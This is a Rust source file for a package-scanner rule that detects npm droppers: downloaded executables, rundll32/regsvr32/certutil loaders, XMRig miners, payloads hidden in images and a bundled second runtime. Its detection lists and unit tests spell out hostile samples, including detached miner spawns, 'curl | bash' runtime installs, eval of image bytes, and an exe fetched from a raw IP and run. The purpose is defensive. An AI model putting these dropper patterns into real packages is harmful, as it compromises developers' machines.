//! `native-dropper`: packages that download or carry native executables and run them,
//! cryptominers, Windows loaders (rundll32, regsvr32, certutil), payloads hidden in images,
//! and a second JavaScript runtime installed to run a bundled payload.

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, call_text, contains_any, finding, first_match, Needles};
use super::sinks;
use super::{PackageFacts, PackageRule, RuleInfo};
use crate::facts::{Call, FileFacts, FileKind, Value};

pub struct NativeDropper;

static INFO: RuleInfo = RuleInfo {
    id: "native-dropper",
    severity: Severity::Critical,
    confidence: Confidence::High,
    capabilities: &[Capability::Native, Capability::Shell, Capability::Network],
    summary: "Downloads or ships an executable and runs it: miners, DLL loaders, image-hidden payloads, a second runtime for a bundled payload",
    docs: r#"## What it detects

- **Downloaded executables**: a URL ending in `.exe`, `.dll`, `.so`, `.dylib`, `.bin`, `.sh`,
  `.ps1`, `.bat`, `.msi`, `.scr`, `.vbs` fetched by code (HTTP client, `curl`, `wget`,
  `certutil -urlcache`, `bitsadmin`, `Invoke-WebRequest`) in a file that also makes a file
  executable (`chmod +x`, `fs.chmodSync(…, 0o755)`) or starts a process.
- **Windows loaders**: `rundll32`/`regsvr32` on a DLL the package ships or downloads,
  `certutil -decode`, `mshta http…` — from JavaScript or a shipped `.bat`/`.cmd`/`.ps1`.
- **Cryptominers**: XMRig and stratum pool settings next to a download or a process start.
- **Steganography**: a file reads an image (`.png`, `.jpg`, `.gif`, `.ico`, …) and evaluates
  code (`eval`, `Function`, `vm`) in the same file.
- **A second runtime**: a script installs Bun or Deno (`curl -fsSL https://bun.sh/install | bash`,
  `irm bun.sh/install.ps1 | iex`) and runs a JavaScript file with it.
- **Disguised binaries**: an ELF/PE/Mach-O file named like a script, an image or data.

Shipping a native executable or a `.node` addon is not a finding by itself: esbuild, sharp
and swc ship binaries and chmod or spawn them. Spawning a shipped binary is reported only when
it is hidden (detached, output ignored, window hidden) from an install script.

## Real attacks

- eslint-config-prettier 8.10.1, synckit, napi-postinstall (July 2025, "Scavenger"): an
  install script ran `rundll32` on a DLL shipped in the package, on Windows only.
- coa and rc (November 2021): `compile.bat` used `certutil -urlcache` to fetch and `regsvr32`
  to load a DanaBot DLL.
- @rspack/core and @rspack/cli 1.1.7 (December 2024): postinstall downloaded XMRig and ran it
  detached with `--cpu-max-threads-hint=75`.
- Shai-Hulud 2 (November 2025): `setup_bun.js` installed Bun and ran the 10 MB
  `bun_environment.js` with it, out of reach of Node-based monitoring.
- Steganographic loaders (for example the 2024 `os-info-checker-es6` and image-borne payloads)
  decode code hidden in image bytes and `eval` it.

## Known false positives

Installers of legitimate tools that download a platform binary (puppeteer, cypress, electron)
and chmod it: reported as high when the URL names an executable and the file starts processes,
critical only with a raw IP host, a hidden detached process or a Windows loader.
"#,
};

const EXECUTABLE_EXTENSIONS: &[&str] = &[
    ".exe", ".dll", ".so", ".dylib", ".bin", ".sh", ".ps1", ".bat", ".cmd", ".msi", ".scr", ".vbs", ".elf",
];

const MINER: &[&str] = &[
    "xmrig",
    "stratum+tcp://",
    "stratum+ssl://",
    "--donate-level",
    "cpu-max-threads-hint",
    "moneroocean",
    "supportxmr",
    "c3pool",
    "nanopool.org",
    "minexmr",
    "nicehash",
];

const IMAGE_EXTENSIONS: &[&str] = &[".png", ".jpg", ".jpeg", ".gif", ".bmp", ".ico", ".webp", ".tiff"];

const RUNTIME_INSTALLERS: &[&str] = &[
    "bun.sh/install",
    "bun.com/install",
    "deno.land/install",
    "deno.land/x/install",
    "get.deno",
    "oven-sh/bun/releases",
    "denoland/deno/releases",
];

fn is_script_path(path: &str) -> bool {
    [".js", ".cjs", ".mjs", ".ts", ".cts", ".mts", ".jsx", ".tsx"]
        .iter()
        .any(|ext| path.ends_with(ext))
}

fn is_js(file: &FileFacts) -> bool {
    matches!(file.kind, FileKind::JavaScript | FileKind::TypeScript)
        || (file.text.is_some() && is_script_path(&file.path))
}

/// URLs among the file's strings and call texts whose path ends in an executable extension.
fn executable_urls(file: &FileFacts) -> Vec<(u32, String)> {
    let mut urls = Vec::new();
    let mut consider = |line: u32, text: &str| {
        // Cheap gate: no URL without `://` (most strings and calls have none).
        if memchr::memmem::find(text.as_bytes(), b"://").is_none() {
            return;
        }
        let starts_with = |word: &str, prefix: &str| {
            word.as_bytes()
                .get(..prefix.len())
                .is_some_and(|head| head.eq_ignore_ascii_case(prefix.as_bytes()))
        };
        for word in text.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',')) {
            if !(starts_with(word, "http://") || starts_with(word, "https://") || starts_with(word, "ftp://")) {
                continue;
            }
            let lower = word.to_ascii_lowercase();
            let path = lower.split(['?', '#']).next().unwrap_or(&lower);
            // The extension of the path, not of the host: `https://examples.vercel.sh` is a
            // site under the `.sh` top-level domain, not a shell script.
            let after_scheme = path.split_once("://").map_or(path, |(_, rest)| rest);
            let Some((_, file_path)) = after_scheme.split_once('/') else {
                continue;
            };
            if EXECUTABLE_EXTENSIONS.iter().any(|ext| file_path.ends_with(ext)) && urls.len() < 16 {
                urls.push((line, word.to_string()));
            }
        }
    };
    // Only texts with `://` can hold a URL: found for all strings and excerpts at once.
    static SCHEME: Needles = Needles::new(&["://"]);
    for string in SCHEME
        .items(file.strings_blob())
        .into_iter()
        .filter_map(|i| file.strings.get(i))
    {
        consider(string.line, &string.value);
    }
    for call in SCHEME
        .items(file.excerpts_blob())
        .into_iter()
        .filter_map(|i| file.calls.get(i))
    {
        consider(call.line, &call.excerpt);
    }
    urls
}

fn host_of(url: &str) -> &str {
    let rest = url.split_once("://").map(|(_, rest)| rest).unwrap_or(url);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    authority
        .rsplit('@')
        .next()
        .unwrap_or(authority)
        .split(':')
        .next()
        .unwrap_or(authority)
}

fn is_chmod_exec(call: &Call, text: &str) -> bool {
    let method = signals::method(&call.callee);
    if matches!(method, "chmod" | "chmodSync") {
        return match call.args.get(1) {
            Some(Value::Num { value }) => (*value as u32) & 0o111 != 0,
            Some(Value::Str { value, .. }) => value.contains(['1', '3', '5', '7']) || value.contains("+x"),
            _ => true,
        };
    }
    signals::is_exec_call(call) && text.contains("chmod") && contains_any(text, &["+x", "755", "777", "700", "775"])
}

/// A spawn that hides the child: detached, output ignored, window hidden, or unref'd.
fn is_hidden_spawn(file: &FileFacts, call: &Call, text: &str) -> bool {
    let hidden_options = contains_any(
        text,
        &[
            "detached:true",
            "detached: true",
            "windowshide",
            "stdio:'ignore'",
            "stdio: 'ignore'",
            "stdio:\"ignore\"",
            "stdio: \"ignore\"",
        ],
    );
    hidden_options
        || file
            .calls
            .iter()
            .any(|c| signals::method(&c.callee) == "unref" && signals::near(file, c.line, call.line, 3))
}

fn is_eval_call(call: &Call) -> bool {
    let callee = call
        .callee
        .trim_start_matches("globalThis.")
        .trim_start_matches("window.");
    matches!(
        callee,
        "eval" | "Function" | "vm.runInThisContext" | "vm.runInNewContext" | "vm.runInContext" | "vm.Script"
    ) || callee.ends_with("._compile")
}

const LOADERS: &[(&str, &str)] = &[
    ("rundll32", "loads a DLL with rundll32"),
    ("regsvr32", "registers a DLL with regsvr32"),
    ("certutil -decode", "decodes a payload with certutil"),
    ("certutil.exe -decode", "decodes a payload with certutil"),
    ("certutil -urlcache", "downloads with certutil"),
    ("certutil.exe -urlcache", "downloads with certutil"),
    ("bitsadmin /transfer", "downloads with bitsadmin"),
    ("mshta http", "runs remote HTML application code with mshta"),
    ("mshta.exe http", "runs remote HTML application code with mshta"),
];

/// A Windows loader named in a command, ignoring the harmless "open a URL" idiom.
fn loader_in(text: &str) -> Option<&'static str> {
    let opens_url = contains_any(
        text,
        &[
            "url.dll,fileprotocolhandler",
            "url.dll,openurl",
            "shell32.dll,shellexec_rundll",
        ],
    );
    LOADERS
        .iter()
        .filter(|(needle, _)| !(opens_url && *needle == "rundll32"))
        .find(|(needle, _)| text.contains(needle))
        .map(|(_, what)| *what)
}

impl PackageRule for NativeDropper {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, package: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let install_files = signals::install_script_files(package.manifest.as_ref());
        let shipped_binaries: Vec<&FileFacts> = package
            .files
            .iter()
            .filter(|f| f.kind == FileKind::NativeExecutable)
            .collect();
        let shipped_files: Vec<&str> = package.files.iter().map(|f| f.path.as_str()).collect();
        for file in &package.files {
            if file.kind == FileKind::NativeExecutable {
                check_disguise(file, out);
                continue;
            }
            let Some(text) = file.text.as_deref() else { continue };
            let lower_path = file.path.to_ascii_lowercase();
            if [".bat", ".cmd", ".ps1", ".sh", ".vbs"]
                .iter()
                .any(|ext| lower_path.ends_with(ext))
            {
                check_shell_script(file, text, out);
                continue;
            }
            if !is_js(file) {
                continue;
            }
            let run_at_install = install_files.iter().any(|f| f == &file.path);
            check_js(file, &shipped_binaries, &shipped_files, run_at_install, out);
        }
    }
}

fn check_disguise(file: &FileFacts, out: &mut Vec<Finding>) {
    let lower = file.path.to_ascii_lowercase();
    let disguised = [
        ".js", ".cjs", ".mjs", ".json", ".txt", ".md", ".png", ".jpg", ".jpeg", ".gif", ".css", ".html", ".svg",
    ]
    .iter()
    .any(|ext| lower.ends_with(ext));
    if disguised {
        out.push(finding(
            &INFO,
            file,
            0,
            Severity::High,
            Confidence::High,
            format!(
                "`{}` is a native executable (ELF/PE/Mach-O) disguised under a non-executable file name.",
                file.path
            ),
            &file.path,
        ));
    }
}

fn check_shell_script(file: &FileFacts, text: &str, out: &mut Vec<Finding>) {
    let lower = text.to_ascii_lowercase();
    let Some(loader) = loader_in(&lower) else { return };
    let downloads = contains_any(
        &lower,
        &[
            "http://",
            "https://",
            "-urlcache",
            "bitsadmin",
            "invoke-webrequest",
            "downloadfile",
        ],
    );
    let (severity, confidence) = if downloads || lower.contains(".dll") {
        (Severity::Critical, Confidence::High)
    } else {
        (Severity::High, Confidence::Medium)
    };
    let line = lower
        .lines()
        .position(|l| loader_in(l).is_some())
        .map(|i| i as u32 + 1)
        .unwrap_or(1);
    out.push(finding(
        &INFO,
        file,
        line,
        severity,
        confidence,
        format!("Shipped script {loader}: the Windows dropper technique of the coa/rc hijack (certutil + regsvr32)."),
        "",
    ));
}

fn check_js(
    file: &FileFacts,
    shipped_binaries: &[&FileFacts],
    shipped_files: &[&str],
    run_at_install: bool,
    out: &mut Vec<Finding>,
) {
    let exec_calls: Vec<(&Call, String)> = file
        .calls
        .iter()
        .filter(|c| signals::is_exec_call(c) || c.callee == "process.dlopen")
        .map(|c| (c, call_text(c)))
        .collect();
    let has_network = file.calls.iter().any(signals::is_network_call)
        || exec_calls
            .iter()
            .any(|(_, text)| contains_any(text, &["curl ", "wget ", "invoke-webrequest", "iwr "]));

    // Windows loaders run from JavaScript.
    for (call, text) in &exec_calls {
        if let Some(loader) = loader_in(text) {
            let names_dll = file.strings.iter().any(|s| {
                let value = s.value.to_ascii_lowercase();
                value.contains(".dll") && !value.contains("url.dll") && !value.contains("shell32.dll")
            });
            let ships_dll = shipped_files.iter().any(|path| {
                let path = path.to_ascii_lowercase();
                path.ends_with(".dll") || path.ends_with(".ocx") || path.ends_with(".cpl")
            }) || text.contains(".dll")
                || names_dll
                || text.contains("__dirname");
            let severity = if ships_dll || has_network {
                Severity::Critical
            } else {
                Severity::High
            };
            out.push(finding(
                &INFO,
                file,
                call.line,
                severity,
                Confidence::High,
                format!("Code {loader}: how the Scavenger loader (eslint-config-prettier, July 2025) ran its DLL on Windows."),
                &call.excerpt,
            ));
            return;
        }
    }

    // Cryptominers.
    static MINERS: Needles = Needles::new(MINER);
    static RUNTIMES: Needles = Needles::new(RUNTIME_INSTALLERS);
    let miner = MINERS
        .first_item(file.strings_blob())
        .and_then(|index| file.strings.get(index))
        .and_then(|s| MINERS.first_in(&s.value).map(|m| (s.line, m)))
        .or_else(|| {
            exec_calls
                .iter()
                .find_map(|(c, text)| first_match(text, MINER).map(|m| (c.line, m)))
        });
    if let Some((line, what)) = miner {
        if !exec_calls.is_empty() || has_network {
            out.push(finding(
                &INFO,
                file,
                line,
                Severity::Critical,
                Confidence::High,
                format!("Downloads or starts a cryptominer (`{what}`): the @rspack/core 1.1.7 postinstall ran XMRig this way."),
                "",
            ));
            return;
        }
    }

    // A second runtime installed, then used to run a bundled file.
    let runtime_install = RUNTIMES
        .first_item(file.strings_blob())
        .and_then(|index| file.strings.get(index))
        .and_then(|s| RUNTIMES.first_in(&s.value).map(|m| (s.line, m)))
        .or_else(|| {
            exec_calls
                .iter()
                .find_map(|(c, text)| first_match(text, RUNTIME_INSTALLERS).map(|m| (c.line, m)))
        });
    if let Some((line, what)) = runtime_install {
        let runs_script = exec_calls.iter().any(|(call, text)| {
            let program = call.args.first().and_then(Value::as_str).unwrap_or("");
            let with_runtime = program.ends_with("bun")
                || program.ends_with("bun.exe")
                || program.ends_with("deno")
                || contains_any(text, &["bun run ", "bun ", "deno run "])
                || text.contains("bunpath")
                || text.contains("bunexecutable");
            with_runtime && (text.contains(".js") || text.contains(".ts"))
        });
        // Through a helper (`runExecutable(bunPath, [environmentScript])`): the file names
        // another script the package ships and starts processes.
        let bundled_script = file.strings.iter().find(|s| {
            let name = s.value.rsplit(['/', '\\']).next().unwrap_or(&s.value);
            is_script_path(name)
                && name != file.path.rsplit('/').next().unwrap_or(&file.path)
                && shipped_files.iter().any(|path| path.rsplit('/').next() == Some(name))
        });
        let runs_script = runs_script || (!exec_calls.is_empty() && bundled_script.is_some());
        let (severity, message) = if runs_script {
            (
                Severity::Critical,
                format!("Installs a second JavaScript runtime (`{what}`) and runs a bundled file with it: the setup_bun.js trick of the second Shai-Hulud wave."),
            )
        } else {
            (
                Severity::High,
                format!("Installs a second JavaScript runtime from code (`{what}`)."),
            )
        };
        out.push(finding(&INFO, file, line, severity, Confidence::High, message, ""));
        return;
    }

    // Steganography: image bytes read, code evaluated.
    let image_read = file.calls.iter().find(|c| {
        let method = signals::method(&c.callee);
        let reads = matches!(method, "readFile" | "readFileSync" | "createReadStream") || signals::is_network_call(c);
        reads && {
            let target = format!(
                "{} {}",
                signals::arg_text(c, 0),
                signals::first_arg_source(&c.excerpt).to_ascii_lowercase()
            );
            IMAGE_EXTENSIONS.iter().any(|ext| target.contains(ext))
        }
    });
    // The evaluated code is computed (not a constant string) and sits next to the image read.
    let eval_near = |read: &Call| {
        file.calls.iter().find(|c| {
            is_eval_call(c)
                && !matches!(c.args.last(), None | Some(Value::Str { decoded: false, .. }))
                && signals::near(file, read.line, c.line, 25)
        })
    };
    if let Some((read, eval)) = image_read.and_then(|read| eval_near(read).map(|eval| (read, eval))) {
        out.push(finding(
            &INFO,
            file,
            read.line,
            Severity::Critical,
            Confidence::High,
            format!(
                "Reads an image and evaluates code in the same file (line {}): a steganographic loader hides its payload in image bytes.",
                eval.line
            ),
            &read.excerpt,
        ));
        return;
    }

    // Downloaded executables made executable or run, in the same stretch of code (a 300,000-line
    // bundle that mentions an install script URL and, elsewhere, spawns processes is not this).
    // Only `chmod` calls and process starts can make a file executable: the call text (an
    // allocation and a lower-casing per call) is built for those alone.
    let chmods: Vec<&Call> = file
        .calls
        .iter()
        .filter(|c| {
            if matches!(signals::method(&c.callee), "chmod" | "chmodSync") {
                is_chmod_exec(c, "")
            } else {
                signals::is_exec_call(c) && is_chmod_exec(c, &call_text(c))
            }
        })
        .collect();
    for (line, url) in executable_urls(file) {
        let chmod = chmods.iter().find(|c| signals::near(file, c.line, line, 40));
        let runs = exec_calls.iter().any(|(c, _)| signals::near(file, c.line, line, 40));
        let fetches = has_network
            && file
                .calls
                .iter()
                .any(|c| signals::is_network_call(c) && signals::near(file, c.line, line, 40));
        if !(runs || (chmod.is_some() && fetches)) {
            continue;
        }
        let host = host_of(&url);
        let hidden = exec_calls
            .iter()
            .any(|(c, text)| signals::near(file, c.line, line, 40) && is_hidden_spawn(file, c, text));
        let (severity, confidence) = if sinks::is_ip_literal(host) || hidden {
            (Severity::Critical, Confidence::High)
        } else {
            (Severity::High, Confidence::Medium)
        };
        out.push(finding(
            &INFO,
            file,
            line,
            severity,
            confidence,
            format!(
                "Downloads an executable ({}) and {}{}.",
                palisade_core::bounded_excerpt(&url, 80),
                if chmod.is_some() {
                    "makes it executable"
                } else {
                    "starts processes"
                },
                if hidden { " in a hidden, detached process" } else { "" }
            ),
            "",
        ));
        return;
    }

    // A temp-dir binary fetched over the network, chmodded and run hidden, all in one place.
    let temp = !chmods.is_empty()
        && signals::contains_any_ignore_ascii_case(
            file.text.as_deref().unwrap_or(""),
            &["os.tmpdir()", "'/tmp/", "\"/tmp/"],
        );
    for chmod in &chmods {
        let hidden = exec_calls
            .iter()
            .find(|(c, text)| signals::near(file, c.line, chmod.line, 30) && is_hidden_spawn(file, c, text));
        let fetched = file
            .calls
            .iter()
            .any(|c| signals::is_network_call(c) && signals::near(file, c.line, chmod.line, 60))
            || exec_calls.iter().any(|(c, text)| {
                signals::near(file, c.line, chmod.line, 60)
                    && contains_any(text, &["curl ", "wget ", "invoke-webrequest"])
            });
        if let (Some((spawn, _)), true, true) = (hidden, fetched, temp) {
            out.push(finding(
                &INFO,
                file,
                spawn.line,
                Severity::High,
                Confidence::Medium,
                format!(
                    "Fetches a file into a temporary directory, makes it executable (line {}) and runs it detached and hidden.",
                    chmod.line
                ),
                &spawn.excerpt,
            ));
            return;
        }
    }

    // A binary shipped in the package, started hidden from an install script.
    if run_at_install && !shipped_binaries.is_empty() {
        for (call, text) in &exec_calls {
            let names_binary = shipped_binaries.iter().any(|b| {
                let name = b.path.rsplit('/').next().unwrap_or(&b.path).to_ascii_lowercase();
                text.contains(&name)
            });
            if names_binary && is_hidden_spawn(file, call, text) {
                out.push(finding(
                    &INFO,
                    file,
                    call.line,
                    Severity::High,
                    Confidence::Medium,
                    "An install script starts a native executable shipped in the package, detached and hidden."
                        .to_string(),
                    &call.excerpt,
                ));
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ScanOptions;
    use palisade_tarball::{PackageContents, PackageFile};

    fn contents(files: &[(&str, &[u8])]) -> PackageContents {
        PackageContents {
            origin: "test".into(),
            files: files
                .iter()
                .map(|(path, data)| PackageFile {
                    path: (*path).into(),
                    data: data.to_vec(),
                    mode: 0o644,
                })
                .collect(),
            issues: Vec::new(),
            compressed_bytes: 0,
            unpacked_bytes: 0,
        }
    }

    fn run(files: &[(&str, &[u8])]) -> Vec<Finding> {
        let contents = contents(files);
        let options = ScanOptions::default();
        let package = crate::rules::package_facts(&contents, &options);
        let mut out = Vec::new();
        NativeDropper.check(&package, &mut out);
        out
    }

    fn worst(findings: &[Finding]) -> Option<Severity> {
        findings.iter().map(|f| f.severity).max()
    }

    #[test]
    fn flags_rundll32_on_shipped_dll() {
        let js = br#"
const { spawn } = require('child_process');
const path = require('path');
if (process.platform === 'win32') {
  spawn('rundll32', [path.join(__dirname, 'helper.dll') + ',entry'], { detached: true, stdio: 'ignore' }).unref();
}
"#;
        let manifest = br#"{"name":"x","version":"1.0.0","scripts":{"install":"node install.js"}}"#;
        let findings = run(&[
            ("package.json", manifest),
            ("install.js", js),
            ("helper.dll", b"MZ\x90\x00\x03"),
        ]);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
    }

    #[test]
    fn flags_miner_download() {
        let js = br#"
const { execSync, spawn } = require('child_process');
execSync('curl -sL https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz | tar xz -C /tmp/.cache');
spawn('/tmp/.cache/xmrig', ['-o', 'pool.example:443', '--cpu-max-threads-hint=75'], { detached: true, stdio: 'ignore' });
"#;
        assert_eq!(worst(&run(&[("support.js", js)])), Some(Severity::Critical));
    }

    #[test]
    fn flags_second_runtime() {
        let js = br#"
const { execSync, spawn } = require('child_process');
try { execSync('bun --version', { stdio: 'ignore' }); } catch { execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' }); }
spawn('bun', ['environment_payload.js'], { detached: true, stdio: 'ignore' }).unref();
"#;
        assert_eq!(worst(&run(&[("setup.js", js)])), Some(Severity::Critical));
    }

    #[test]
    fn flags_second_runtime_through_a_helper() {
        let js = br#"
const { spawn, execSync } = require('child_process');
const path = require('path');
function runExecutable(execPath, args) { const child = spawn(execPath, args, { detached: true, stdio: 'ignore' }); child.unref(); }
function install() { execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' }); }
install();
const environmentScript = path.join(__dirname, 'environment_payload.js');
runExecutable(process.env.HOME + '/.bun/bin/bun', [environmentScript]);
"#;
        let findings = run(&[("setup.js", js), ("environment_payload.js", b"module.exports = 1;\n")]);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
    }

    #[test]
    fn flags_image_payload_eval() {
        let js = br#"
const fs = require('fs');
const bytes = fs.readFileSync(__dirname + '/assets/logo.png');
const hidden = bytes.slice(bytes.length - 2048).toString('utf8');
eval(hidden);
"#;
        assert_eq!(worst(&run(&[("index.js", js)])), Some(Severity::Critical));
    }

    #[test]
    fn quiet_on_app_icon_and_constant_function() {
        // playwright-core: reads an icon; far away, compiles a constant `return import("vite")`.
        let js = format!(
            "const fs = require('fs');\nconst icon = fs.readFileSync('appIcon.png');\n{}const loadVite = new Function('return import(\"vite\")');\n",
            "\n".repeat(40)
        );
        assert!(run(&[("bundle.js", js.as_bytes())]).is_empty());
    }

    #[test]
    fn quiet_on_install_url_far_from_processes() {
        // A CLI bundle that prints an install-script URL and, thousands of lines later, spawns.
        let js = format!(
            "const hint = 'curl -fsSL https://example.com/cli/install.sh | bash';\n{}require('child_process').spawn(cmd, args, {{ detached: true, stdio: 'ignore' }}).unref();\n",
            "const y = 2;\n".repeat(300)
        );
        let findings = run(&[("bundle.js", js.as_bytes())]);
        assert!(findings.is_empty(), "{findings:#?}");
    }

    #[test]
    fn flags_downloaded_exe_to_ip() {
        let js = br#"
const https = require('http');
const fs = require('fs');
const { exec } = require('child_process');
https.get('http://45.61.12.9/update/svc.exe', (res) => { res.pipe(fs.createWriteStream(process.env.TEMP + '\\svc.exe')).on('finish', () => exec(process.env.TEMP + '\\svc.exe')); });
"#;
        assert_eq!(worst(&run(&[("index.js", js)])), Some(Severity::Critical));
    }

    #[test]
    fn flags_certutil_batch() {
        let bat = b"@echo off\r\ncurl -o %TEMP%\\sdd.dll https://pastebin.example/raw/x\r\nregsvr32.exe -s %TEMP%\\sdd.dll\r\n";
        assert_eq!(worst(&run(&[("compile.bat", bat)])), Some(Severity::Critical));
    }

    #[test]
    fn quiet_on_build_tool_chmodding_its_own_binary() {
        let js = br#"
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
const bin = path.join(__dirname, 'bin', 'tool');
fs.chmodSync(bin, 0o755);
module.exports = (args) => execFileSync(bin, args, { stdio: 'inherit' });
"#;
        let manifest = br#"{"name":"tool","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#;
        let findings = run(&[
            ("package.json", manifest),
            ("install.js", js),
            ("bin/tool", b"\x7fELF\x02\x01\x01"),
        ]);
        assert!(findings.is_empty(), "{findings:#?}");
    }

    #[test]
    fn quiet_on_open_url_idiom() {
        let js = br#"
const { spawn } = require('child_process');
module.exports = (url) => spawn('rundll32', ['url.dll,FileProtocolHandler', url], { stdio: 'ignore' });
"#;
        assert!(run(&[("open.js", js)]).is_empty());
    }
}
